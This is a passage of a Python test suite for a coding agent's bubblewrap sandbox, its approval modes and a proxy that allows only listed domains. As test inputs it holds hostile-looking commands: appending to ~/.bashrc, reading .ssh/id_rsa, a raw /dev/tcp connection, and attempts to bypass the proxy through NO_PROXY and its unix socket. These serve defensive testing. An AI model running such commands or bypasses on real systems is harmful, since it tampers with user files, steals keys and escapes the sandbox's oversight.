        "OS sandbox: bubblewrap (/usr/bin/bwrap); the sandbox permission mode (Shift+Tab) runs "
        "commands in it without asking.\nnetwork: none"
    )


async def test_a_background_job_in_sandbox_mode_runs_inside(
    session: Session, agent_env: dict[str, str], tmp_path: Path, home: Path
) -> None:
    env = {**agent_env, "HOME": str(home)}
    command = "echo evil >> ~/.bashrc; echo inside > inside.txt; echo finished"
    script = write_script(
        tmp_path / "script.json",
        [call("bash", command=command, background=True), {"text": "Started."}],
    )
    client = Client(approve=deny)  # nothing may ask
    args = ("--faux-script", str(script), "--permission-mode", "sandbox")
    async with worker_process(session, env, *args) as worker, connected(client, worker.socket):
        await client.root.send({"content": "start it"}, BACKGROUND)
        await client.wait_for(
            lambda: any("exited with code" in text_of(e) for e in client.entries("pi.notice"))
        )
        notices = [text_of(entry) for entry in client.entries("pi.notice")]
    assert notices == [f"Job `bash -c {command}` exited with code 0."]
    assert client.approvals == []
    (record,) = [p for p in (session.path / "processes").iterdir() if (p / "stdout").exists()]
    assert (record / "stdout").read_text() == "finished\n"
    assert "Read-only file system" in (record / "stderr").read_text()
    assert (session.cwd / "inside.txt").read_text() == "inside\n"
    assert (home / ".bashrc").read_text() == "# the user's\n"


async def test_a_project_in_the_home_folder_keeps_the_start_up_files_read_only(
    env: dict[str, str], home: Path, tmp_path: Path
) -> None:
    policy = sandbox_policy(home, f"test-{os.getpid()}-{tmp_path.name}-home", env=env)
    found = session_sandbox(policy, env, enforced=True)
    assert isinstance(found, Sandbox)
    text = await bash("echo ok > notes.txt && echo evil >> .bashrc", home, found)
    assert "Read-only file system" in text
    assert (home / "notes.txt").read_text() == "ok\n"  # the project itself is writable
    assert (home / ".bashrc").read_text() == "# the user's\n"
    assert "PRIVATE" not in await bash("cat .ssh/id_rsa", home, found)


def test_coding_agent_config_shows_the_sandbox(tmp_path: Path) -> None:
    config = tmp_path / "config" / "coding-agent" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text('[sandbox]\nenabled = true\ndeny_read = ["~/.kube"]\n')
    environ = {k: v for k, v in os.environ.items() if not k.endswith("_API_KEY")}
    environ.update(
        XDG_CONFIG_HOME=str(tmp_path / "config"),
        XDG_STATE_HOME=str(tmp_path / "state"),
        HOME=str(tmp_path),
    )
    binary = Path(sys.executable).with_name("coding-agent")
    done = subprocess.run(
        [str(binary), "config"], env=environ, cwd=tmp_path, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    lines = {line.split(" = ")[0]: line for line in done.stdout.splitlines() if " = " in line}
    assert lines["sandbox"].startswith("sandbox = available")
    assert lines["sandbox.enabled"].endswith(f"# {config}:2")
    assert "~/.ssh" in lines["sandbox.deny_read"] and "~/.kube" in lines["sandbox.deny_read"]
    assert lines["sandbox.network"].startswith("sandbox.network = none")


async def allow_inside(facade: Any, request: dict[str, Any], ctx: Any) -> None:
    """The dialog's "Allow inside the sandbox"."""
    await facade.decide({"decision": "allow", "by": "test", "sandboxed": True}, BACKGROUND)


async def test_ask_mode_offers_to_run_a_command_inside_the_sandbox(
    session: Session, agent_env: dict[str, str], tmp_path: Path, home: Path
) -> None:
    env = {**agent_env, "HOME": str(home)}
    script = write_script(
        tmp_path / "script.json",
        [
            call("bash", command="echo evil >> ~/.bashrc"),
            call("write", path="notes.txt", content="x\n"),
            {"text": "done"},
        ],
    )
    client = Client(approve=allow_inside)
    async with (
        worker_process(session, env, "--faux-script", str(script)) as worker,
        connected(client, worker.socket),
    ):
        await client.root.send({"content": "work"}, BACKGROUND)
        await client.wait_for(lambda: bool(client.entries("pi.tool_result")))
        client.approve = allow  # the write's dialog offers no sandbox
        await client.wait_for(client.turn_ended)
    first, second = client.approvals
    assert first.request.get("sandbox") is True
    assert "sandbox" not in second.request
    text = text_of(client.entries("pi.tool_result")[0])
    assert "Read-only file system" in text and "[Sandbox:" in text
    assert (home / ".bashrc").read_text() == "# the user's\n"


@pytest.fixture
def https_server(tmp_path: Path) -> Iterator[tuple[int, Path]]:
    """A local HTTPS server whose certificate (for ``localhost``) a CA of its own signed: the
    port and the CA's certificate."""
    folder = tmp_path / "tls"
    folder.mkdir()

    def openssl(*args: str) -> None:
        subprocess.run(["openssl", *args], cwd=folder, check=True, capture_output=True)

    openssl("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "ca.key", "-out",
            "ca.pem", "-days", "2", "-subj", "/CN=sandbox test CA")  # fmt: skip
    openssl("req", "-newkey", "rsa:2048", "-nodes", "-keyout", "server.key", "-out",
            "server.csr", "-subj", "/CN=localhost")  # fmt: skip
    (folder / "ext").write_text("subjectAltName=DNS:localhost\n")
    openssl("x509", "-req", "-in", "server.csr", "-CA", "ca.pem", "-CAkey", "ca.key",
            "-CAcreateserial", "-out", "server.pem", "-days", "2", "-extfile", "ext")  # fmt: skip
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(folder / "server.pem", folder / "server.key")

    class Hello(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"hello over https\n")

        def log_message(self, format: str, *args: Any) -> None:
            del format, args

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hello)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1], folder / "ca.pem"
    server.shutdown()
    server.server_close()


async def test_allowed_domains_are_reached_through_the_proxy_and_nothing_else(
    project: Path, env: dict[str, str], tmp_path: Path, https_server: tuple[int, Path]
) -> None:
    port, ca = https_server
    policy = sandbox_policy(  # the test server's port is not 80 or 443: the entry names it
        project, f"test-{os.getpid()}-{tmp_path.name}", env=env, allow_domains=[f"localhost:{port}"]
    )
    assert policy.proxy_socket is not None
    proxy = DomainProxy(policy.proxy_socket, policy.allow_domains).start()
    try:
        found = session_sandbox(policy, env, enforced=True)
        assert isinstance(found, Sandbox)
        # --noproxy '': localhost too goes through the proxy (NO_PROXY keeps a command's own
        # local servers direct); the proxy, outside, reaches the host's localhost
        curl = f"curl -sS --noproxy '' --cacert {ca}"
        text = await bash(f"{curl} https://localhost:{port}/", project, found)
        assert text == "hello over https"
        text = await bash(f"{curl} https://127.0.0.1:{port}/", project, found)  # not listed
        assert "CONNECT tunnel failed, response 403" in text
        assert "[Sandbox: the sandbox's proxy refused that domain" in text
        text = await bash(f"exec 3<>/dev/tcp/127.0.0.1/{port}", project, found)  # no way around
        assert "Connection refused" in text
        # another port of an allowed domain (nothing listens on 1: refused before connecting)
        text = await bash(f"{curl} https://localhost:1/", project, found)
        assert "CONNECT tunnel failed, response 403" in text
        assert "[Sandbox: the sandbox's proxy refused that domain or port" in text
        fetch = "import urllib.request as u; u.urlopen('https://localhost:1/')"
        text = await bash(f'NO_PROXY= no_proxy= python3 -c "{fetch}"', project, found)
        assert "Tunnel connection failed: 403 Forbidden: port not allowed by the sandbox" in text
        assert "[Sandbox: the sandbox's proxy refused that port: an allowed domain" in text
        assert proxy.refused == ["127.0.0.1", "localhost:1", "localhost:1"]
        # the forwarder connects to the proxy's unix socket; the command it runs may not
        script = project / "connect.py"
        script.write_text(UNIX_CONNECT)
        text = await bash(f"python3 {script} {policy.proxy_socket}", project, found)
        assert text.splitlines() == ["pair", "inet", "refused: Operation not permitted"]
        text = await bash(f"{curl} https://localhost:{port}/", project, found)
        assert text == "hello over https"  # and the proxy still works
    finally:
        proxy.close()
    assert not await anyio.Path(policy.proxy_socket).exists()


def test_allow_domains_come_from_the_users_file_only(project: Path, env: dict[str, str]) -> None:
    local = project / ".coding-agent" / "config.toml"
    local.parent.mkdir()
    local.write_text('[sandbox]\nallow_domains = ["evil.example"]\n')
    with pytest.raises(ConfigError, match=r"move sandbox\.allow_domains there"):
        load_config(project, env=env, trusted=True)


def test_an_allowed_domain_may_name_a_port(
    project: Path, env: dict[str, str], tmp_path: Path
) -> None:
    user = tmp_path / "config" / "coding-agent" / "config.toml"
    entries = '"pypi.org", "*.example.com", "db.example.com:6379", "[::1]:8443"'
    user.write_text(f"[sandbox]\nallow_domains = [{entries}]\n")
    config = load_config(project, env=env, trusted=True)
    assert config.sandbox_allow_domains[2:] == ["db.example.com:6379", "[::1]:8443"]
    for bad in ("example.com:ssh", "example.com:0", "example.com:70000", "::1", "https://a.b/"):
        user.write_text(f'[sandbox]\nallow_domains = ["{bad}"]\n')
        with pytest.raises(ConfigError, match=r"not a domain with an optional port"):
            load_config(project, env=env, trusted=True)


async def test_the_worker_runs_the_proxy_of_its_allowed_domains(
    session: Session, agent_env: dict[str, str], tmp_path: Path, https_server: tuple[int, Path]
) -> None:
    port, ca = https_server
    config = tmp_path / "xdg-config" / "coding-agent" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text(f'[sandbox]\nallow_domains = ["localhost:{port}"]\n')
    env = {**agent_env, "XDG_CONFIG_HOME": str(tmp_path / "xdg-config")}
    curl = f"curl -sS --noproxy '' --cacert {ca}"
    script = write_script(
        tmp_path / "script.json",
        [
            call("bash", command=f"{curl} https://localhost:{port}/"),
            call("bash", command=f"{curl} https://127.0.0.1:{port}/"),
            {"text": "done"},
        ],
    )
    client = Client(approve=deny)
    args = ("--faux-script", str(script), "--permission-mode", "sandbox")
    async with worker_process(session, env, *args) as worker, connected(client, worker.socket):
        await client.root.send({"content": "fetch"}, BACKGROUND)
        await client.wait_for(client.turn_ended)
    texts = [text_of(entry) for entry in client.entries("pi.tool_result")]
    assert texts[0] == "hello over https"
    assert "[Sandbox: the sandbox's proxy refused that domain" in texts[1]
    assert client.approvals == []
